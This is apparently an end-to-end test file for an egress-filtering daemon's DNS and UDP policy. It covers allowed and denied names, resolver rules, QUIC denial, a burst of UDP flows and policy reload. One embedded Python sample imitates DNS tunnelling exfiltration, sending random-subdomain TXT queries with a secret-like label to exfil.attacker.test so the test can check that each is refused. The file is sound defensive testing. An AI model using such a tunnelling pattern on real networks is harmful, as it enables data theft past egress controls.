// End to end for the DNS and UDP paths (issue 5) over the real `egress start` daemon: a runner
// namespace with unprivileged clients (dig, python3, node) in a test cgroup, dnsmasq on ports 53
// and 5353 and UDP receivers in an internet namespace (tests/helpers/netns.ts,
// tests/daemon/daemon_rig.ts). What tests/daemon/e2e_test.ts already covers (allowed/denied name
// with dig, DNS over TCP allowed, UDP connmark, DNS cache → raw TCP by IP) is not repeated here.
// Root only; namespaces, cgroup and daemon are always removed.
import assert from "node:assert/strict";
import { testWhen } from "../helpers/requirements.ts";
import { Background, client, netnsTestsUnmet, type Topology, withTopology } from "../helpers/netns.ts";
import { daemonPaths, DaemonRun, removeDaemonLeftovers, startInternet } from "../daemon/daemon_rig.ts";
import { loadRealParts } from "../../src/daemon/parts.ts";

async function partsUnmet(): Promise<string | undefined> {
  try {
    await loadRealParts();
    return undefined;
  } catch (error) {
    return (error as Error).message;
  }
}

const reason = netnsTestsUnmet(["/usr/bin/dig", "/usr/bin/node", "/usr/sbin/dnsmasq"]) ?? await partsUnmet();

const BURST = 10_000;

function policyFor(ip: string): string {
  return `# issue 5 e2e policy
allowed.egress.test
*.wild.egress.test
dns:dnsonly.egress.test
# the resolver on 53 and 5353; one UDP service for the burst
${ip}:53|5353/udp
${ip}:9100/udp
`;
}

type Log = Record<string, unknown>;

// Counts datagrams per port on the internet side; prints {"ready"}, then the counts once a datagram
// arrives on the control port (sent from inside the internet namespace), or after 120 s.
const PY_RECEIVER = String.raw`
import json, select, socket, sys
ip, ports, control = sys.argv[1], [int(p) for p in sys.argv[2].split(",")], int(sys.argv[3])
socks = {}
for port in ports + [control]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    s.bind((ip, port)); s.setblocking(False); socks[s.fileno()] = (s, port)
counts = {str(p): 0 for p in ports}
print(json.dumps({"ready": True}), flush=True)
done = False
while not done:
    ready, _, _ = select.select(list(socks), [], [], 120)
    if not ready:
        break
    for fd in ready:
        s, port = socks[fd]
        if port == control:
            done = True
            continue
        while True:
            try:
                s.recv(2048)
            except BlockingIOError:
                break
            counts[str(port)] += 1
print(json.dumps(counts), flush=True)
`;

// N datagrams, each from its own source port (a new flow, so each one is queued and judged; random
// ephemeral ports would repeat and ride the first flow's connmark).
const PY_BURST = String.raw`
import json, os, socket, sys, time
ip, port, count, first, stop = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
for i in range(count):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", first + i))
    s.sendto(b"burst %d" % i, (ip, port))
    s.close()
# Stay alive (as a real sender would) until the test has seen the verdicts: a process that has
# exited can no longer be described from /proc.
deadline = time.monotonic() + 60
while not os.path.exists(stop) and time.monotonic() < deadline:
    time.sleep(0.05)
print(json.dumps({"sent": count, "pid": os.getpid()}), flush=True)
`;

// Random-subdomain TXT queries, the shape of DNS tunnelling; rcodes of the answers.
const PY_EXFIL = String.raw`
import json, os, random, socket, struct, sys
ip, count = sys.argv[1], int(sys.argv[2])
secret = os.urandom(16).hex()
rcodes, names = [], []
for i in range(count):
    label = "%s%02d%s" % (secret[:20], i, "".join(random.choice("abcdef0123456789") for _ in range(8)))
    name = "%s.exfil.attacker.test" % label
    qid = random.randrange(65536)
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 16, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(q, (ip, 53))
    try:
        r = s.recv(512)
        rcodes.append(r[3] & 15 if r[:2] == q[:2] else "bad id")
    except socket.timeout:
        rcodes.append("timeout")
    names.append(name)
print(json.dumps({"rcodes": rcodes, "names": names, "pid": os.getpid()}), flush=True)
`;

// A QUIC-looking Initial packet (long header, version 1) to UDP 443.
const PY_QUIC = String.raw`
import json, os, socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1.5)
packet = bytes([0xc3, 0, 0, 0, 1, 8]) + os.urandom(8) + bytes([0]) + os.urandom(1180)
s.sendto(packet, (sys.argv[1], 443))
try:
    s.recv(100); print(json.dumps({"answer": True}))
except socket.timeout:
    print(json.dumps({"answer": False, "port": s.getsockname()[1]}))
`;

const NODE_DNS = String.raw`
const dns = require("dns");
const r = new dns.Resolver({ timeout: 3000, tries: 1 });
r.setServers([process.argv[1]]);
const out = {};
const names = process.argv.slice(2);
let left = names.length;
for (const name of names) {
  r.resolve4(name, (err, ips) => {
    out[name] = err ? err.code : ips;
    if (--left === 0) console.log(JSON.stringify(out));
  });
}
`;

function lastJson(output: { stdout: string; stderr: string; code: number }) {
  const line = output.stdout.trim().split("\n").at(-1) ?? "";
  try {
    return JSON.parse(line);
  } catch {
    throw new Error(`no JSON from the client (exit ${output.code}): ${output.stdout} ${output.stderr}`);
  }
}

/** dig as nobody in the client cgroup: the answer IP, or the status (REFUSED …). */
async function dig(topology: Topology, server: string, name: string, extra: string[] = []): Promise<string> {
  const out = await client(
    { netns: topology.runner, cgroup: topology.cgroup },
    ["/usr/bin/dig", "+time=2", "+tries=1", `@${server}`, name, ...extra],
  );
  const status = /status: (\w+)/.exec(out.stdout)?.[1] ??
    `no answer (${out.stdout.trim().split("\n").at(-1)})`;
  const answer = out.stdout.split("\n").find((line) => line.startsWith(name + "."))?.split(/\s+/).at(-1);
  return status === "NOERROR" ? answer ?? "NOERROR without answer" : status;
}

function startDnsmasq(topology: Topology, port: number): Background {
  return new Background([
    ...topology.internet.prefix(),
    "dnsmasq",
    "--keep-in-foreground",
    "--conf-file=/dev/null",
    "--no-resolv",
    "--no-hosts",
    "--bind-interfaces",
    `--listen-address=${topology.internetIp}`,
    `--port=${port}`,
    `--address=/egress.test/${topology.internetIp}`,
    "--pid-file=",
    "--user=root",
    "--log-facility=-",
  ]);
}

testWhen(reason, "daemon e2e: DNS name policy and UDP decisions over real clients (issue 5)", async (t) => {
  await withTopology("u", async (topology) => {
    const paths = await daemonPaths("dnsudp");
    const internet = await startInternet(topology, paths.dir);
    const ip = topology.internetIp;
    const dns5353 = startDnsmasq(topology, 5353);
    const receiver = new Background(
      [...topology.internet.prefix(), "/usr/bin/python3", "-c", PY_RECEIVER, ip, "443,9100,9101", "9199"],
    );
    let run: DaemonRun | undefined;
    try {
      await receiver.waitFor("UDP receiver", () => receiver.stdout.includes('"ready"'));
      run = await DaemonRun.start(topology, paths, { policy: policyFor(ip) });
      const lines = () => run!.logLines();
      const dnsLine = (name: string, type = "dns") =>
        run!.waitForLine(`${type} ${name}`, (l) => l.type === type && l.name === name);

      await t.step("dig: allowed, denied, wildcard (subdomains, not the apex), dns: rule", async () => {
        assert.equal(await dig(topology, ip, "allowed.egress.test"), ip);
        assert.equal(await dig(topology, ip, "other.egress.test"), "REFUSED");
        assert.equal(await dig(topology, ip, "a.wild.egress.test"), ip);
        assert.equal(await dig(topology, ip, "wild.egress.test"), "REFUSED");
        assert.equal(await dig(topology, ip, "a.b.wild.egress.test"), ip, "policy.md §10.3: any depth");
        assert.equal(await dig(topology, ip, "wild.egress.test.other.egress.test"), "REFUSED");
        assert.equal(await dig(topology, ip, "dnsonly.egress.test"), ip);
        const wild = await dnsLine("a.wild.egress.test");
        assert.equal(wild.rule, "*.wild.egress.test");
        const dnsOnly = await dnsLine("dnsonly.egress.test");
        assert.equal(dnsOnly.rule, "dns:dnsonly.egress.test");
        assert.equal(dnsOnly.policy, "allow");
        const denied = await dnsLine("other.egress.test");
        assert.equal(denied.reason, "name not allowed");
        assert.deepEqual((await dnsLine("allowed.egress.test", "dns_response")).answers, [ip]);
      });

      await t.step("a resolver no udp rule allows is refused, even for an allowed name", async () => {
        assert.equal(await dig(topology, topology.extraIp, "allowed.egress.test"), "REFUSED");
        const line = await run!.waitForLine(
          "resolver not allowed",
          (l) => l.type === "dns" && l.dst_ip === topology.extraIp,
        );
        assert.equal(line.reason, "resolver not allowed");
        assert.equal(line.policy, "deny");
      });

      await t.step("DNS on port 5353 is judged and forwarded to the resolver asked", async () => {
        await dns5353.waitFor("dnsmasq on 5353", async () => {
          const probe = await topology.internet.tryExec(
            ["dig", "+short", "+time=1", "+tries=1", "-p", "5353", `@${ip}`, "probe.egress.test"],
          );
          return probe.stdout.trim() === ip;
        });
        assert.equal(await dig(topology, ip, "allowed.egress.test", ["-p", "5353"]), ip);
        assert.equal(await dig(topology, ip, "other.egress.test", ["-p", "5353"]), "REFUSED");
        const line = await run!.waitForLine("dns 5353", (l) => l.type === "dns" && l.dst_port === 5353);
        assert.equal(line.dst_ip, ip);
        assert.equal(line.policy, "allow");
      });

      await t.step("DNS over TCP, on 53 and on another port (detected by its first bytes)", async () => {
        assert.equal(await dig(topology, ip, "other.egress.test", ["+tcp"]), "REFUSED");
        assert.equal(await dig(topology, ip, "a.wild.egress.test", ["+tcp"]), ip);
        assert.equal(await dig(topology, ip, "other.egress.test", ["+tcp", "-p", "5353"]), "REFUSED");
        assert.equal(await dig(topology, ip, "a.wild.egress.test", ["+tcp", "-p", "5353"]), ip);
        const line = await run!.waitForLine(
          "dns over tcp 5353",
          (l) => l.type === "dns" && l.dst_port === 5353 && l.name === "other.egress.test",
        );
        assert.equal(line.reason, "name not allowed");
      });

      await t.step("node's dns.Resolver as an unprivileged client", async () => {
        const out = lastJson(
          await client(
            { netns: topology.runner, cgroup: topology.cgroup },
            ["/usr/bin/node", "-e", NODE_DNS, ip, "allowed.egress.test", "other.egress.test"],
          ),
        );
        assert.deepEqual(out, { "allowed.egress.test": [ip], "other.egress.test": "EREFUSED" });
        const line = await run!.waitForLine(
          "node dns",
          (l) => l.type === "dns" && l.exe === "/usr/bin/node" && l.name === "allowed.egress.test",
        );
        assert.equal(line.policy, "allow");
      });

      await t.step("random-subdomain TXT exfiltration: every query refused and logged", async () => {
        const out = lastJson(
          await client({ netns: topology.runner, cgroup: topology.cgroup }, [
            "/usr/bin/python3",
            "-c",
            PY_EXFIL,
            ip,
            "20",
          ]),
        );
        assert.deepEqual(out.rcodes, Array(20).fill(5), "REFUSED is rcode 5");
        const deadline = Date.now() + 5000;
        let logged: Log[] = [];
        while (Date.now() < deadline) {
          logged = (await lines()).filter((l) => l.type === "dns" && out.names.includes(l.name));
          if (logged.length === 20) break;
          await new Promise((resolve) => setTimeout(resolve, 100));
        }
        assert.equal(logged.length, 20, "one dns line per exfiltration query");
        for (const line of logged) {
          assert.equal(line.policy, "deny");
          assert.equal(line.reason, "name not allowed");
          assert.equal(line.pid, out.pid);
          assert.match(String(line.exe), /^\/usr\/bin\/python3/);
        }
        const leaked = (await lines()).filter((l) => l.type === "dns_response" && out.names.includes(l.name));
        assert.deepEqual(leaked, [], "no exfiltration query reached the resolver");
      });

      await t.step("QUIC-style UDP 443 is denied (clients fall back to TCP)", async () => {
        const out = lastJson(
          await client({ netns: topology.runner, cgroup: topology.cgroup }, [
            "/usr/bin/python3",
            "-c",
            PY_QUIC,
            ip,
          ]),
        );
        assert.equal(out.answer, false);
        const line = await run!.waitForLine(
          "udp 443",
          (l) => l.type === "udp" && l.dst_port === 443 && l.src_port === out.port,
        );
        assert.equal(line.policy, "deny");
        assert.equal(line.reason, "no matching rule");
      });

      await t.step(`a burst of ${BURST} new UDP flows: every one judged, none lost`, async () => {
        const stop = `${paths.dir}/burst-stop`;
        const burst = (port: string, count: number, firstPort: number) =>
          client(
            { netns: topology.runner, cgroup: topology.cgroup, timeoutMs: 120_000 },
            ["/usr/bin/python3", "-c", PY_BURST, ip, port, String(count), String(firstPort), stop],
          );
        const senders = [burst("9100", BURST, 20000), burst("9101", 1000, 30000)];
        // One udp line per flow (the limiter keys by 5-tuple). The connection log may drop lines
        // under such a burst (bounded queue, src/log/connection_log.ts); it then says how many.
        const droppedLines = async () => {
          const oplog = await Deno.readTextFile(paths.oplog).catch(() => "");
          return Math.max(
            0,
            ...[...oplog.matchAll(/dropped \d+ lines \((\d+) since start\)/g)].map((m) => Number(m[1])),
          );
        };
        const deadline = Date.now() + 60_000;
        let udp: Log[] = [];
        let dropped = 0;
        while (Date.now() < deadline) {
          udp = (await lines()).filter((l) =>
            l.type === "udp" && (l.dst_port === 9100 || l.dst_port === 9101)
          );
          dropped = await droppedLines();
          if (udp.length + dropped >= BURST + 1000) break;
          await new Promise((resolve) => setTimeout(resolve, 250));
        }
        await Deno.writeTextFile(stop, "");
        const [allowed, denied] = (await Promise.all(senders)).map(lastJson);
        assert.equal(allowed.sent, BURST);
        // The kernel counts packets dropped because the queue was full (fail closed, but lost).
        const queueStats = await topology.runner.exec(["cat", "/proc/net/netfilter/nfnetlink_queue"]);
        const counts =
          `${udp.length} udp lines, ${dropped} log lines dropped; nfnetlink_queue: ${queueStats.trim()}`;
        const [, , , , , queueDropped, userDropped] = queueStats.trim().split(/\s+/).map(Number);
        assert.deepEqual([queueDropped, userDropped], [0, 0], counts);
        assert.equal(udp.length + dropped, BURST + 1000, counts);
        assert.ok(udp.every((l) => l.policy === (l.dst_port === 9100 ? "allow" : "deny")), counts);
        // Each allowed flow got the fast-path connmark.
        const conntrack = await topology.runner.exec(["conntrack", "-L", "-p", "udp", "--dport", "9100"]);
        const marked = conntrack.split("\n").filter((l) =>
          /mark=(\d+)/.test(l) && (Number(/mark=(\d+)/.exec(l)![1]) & 0x2000000) !== 0
        );
        assert.equal(marked.length, BURST, `flows with the allowed-flow connmark: ${marked.length}`);
        assert.ok(udp.every((l) => l.pid === (l.dst_port === 9100 ? allowed.pid : denied.pid)));
      });

      await t.step("a policy reload revokes the fast path of an allowed flow", async () => {
        const send = (text: string) =>
          client({ netns: topology.runner, cgroup: topology.cgroup }, [
            "/usr/bin/python3",
            "-c",
            `import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("0.0.0.0", 40000)); s.sendto(b"${text}", ("${ip}", 9100))`,
          ]);
        await send("before");
        await run!.waitForLine("flow allowed", (l) => l.type === "udp" && l.src_port === 40000);
        await Deno.writeTextFile(paths.policy, policyFor(ip).replace(`${ip}:9100/udp\n`, ""));
        run!.process.signal("SIGHUP");
        await run!.process.waitFor(
          "reload",
          () => Deno.readTextFile(paths.oplog).then((t) => t.includes("policy reloaded")),
        );
        await send("after");
        const denied = await run!.waitForLine(
          "flow denied after reload",
          (l) => l.type === "udp" && l.src_port === 40000 && l.policy === "deny",
        );
        assert.equal(denied.reason, "no matching rule");
      });

      await t.step("receiver counts: the burst arrived whole, nothing denied arrived", async () => {
        await new Promise((resolve) => setTimeout(resolve, 500));
        await topology.internet.exec([
          "/usr/bin/python3",
          "-c",
          `import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stop", ("${ip}", 9199))`,
        ]);
        await receiver.wait(10_000);
        const counts = JSON.parse(receiver.stdout.trim().split("\n").at(-1) ?? "{}");
        assert.equal(counts["9100"], BURST + 1, "the burst and the flow's packet before the reload");
        assert.equal(counts["9101"], 0);
        assert.equal(counts["443"], 0);
      });

      await t.step("every dns, dns_response and udp line carries the client's pid and exe", async () => {
        const events = (await lines()).filter((l) => ["dns", "dns_response", "udp"].includes(String(l.type)));
        assert.ok(events.length > BURST / 2, `${events.length} lines`);
        const missing = events.filter((l) => typeof l.pid !== "number" || typeof l.exe !== "string");
        assert.deepEqual(missing.slice(0, 5), [], `${missing.length} lines without pid/exe`);
        const exes = new Set(events.map((l) => String(l.exe).split(" ")[0]));
        for (const exe of exes) assert.match(exe, /^\/usr\/bin\/(dig|node|python3(\.\d+)?)$/);
      });
    } finally {
      if (run && !run.process.exited) await run.stop().catch(() => run!.kill());
      await receiver.stop("SIGKILL");
      await dns5353.stop("SIGKILL");
      await internet.stop();
      removeDaemonLeftovers(paths);
      await Deno.remove(paths.dir, { recursive: true }).catch(() => {});
    }
  });
});
